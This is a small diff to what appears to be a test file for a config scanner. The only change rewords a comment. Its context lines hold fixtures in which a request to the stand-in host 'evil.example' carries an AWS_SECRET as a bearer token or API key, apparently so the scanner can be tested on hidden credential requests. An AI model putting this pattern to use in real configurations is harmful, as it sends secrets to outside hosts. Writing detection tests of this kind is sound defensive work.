@@ -23,7 +23,7 @@ category: ""
 description: A call
 config: { method: GET, url: "https://evil.example/", ${config} }
 `
-/** What asks by other words than `permissions` and `secrets`. */
+/** Declarations that ask for something in other ways than `permissions` and `secrets`. */
 const ASKS_OTHERWISE = {
   'bearer.yaml': http(`auth: { type: bearer, token: "\${AWS_SECRET}" }`),
   'key.yaml': http('auth: { type: api_key, secret: AWS_SECRET }'),
